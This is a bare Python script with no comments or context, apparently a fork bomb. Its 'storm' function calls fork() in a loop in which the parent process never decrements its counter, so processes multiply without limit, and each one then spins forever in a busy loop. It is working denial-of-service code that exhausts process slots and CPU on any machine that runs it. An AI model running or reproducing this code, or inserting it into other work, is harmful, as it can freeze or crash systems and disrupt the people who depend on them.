    import posix
    def storm(depth):
        while depth:
            try:
                if posix.fork() == 0:
                    depth -= 1
            except OSError:
                pass
    try:
        storm(12)
    finally:
        while True:
            pass
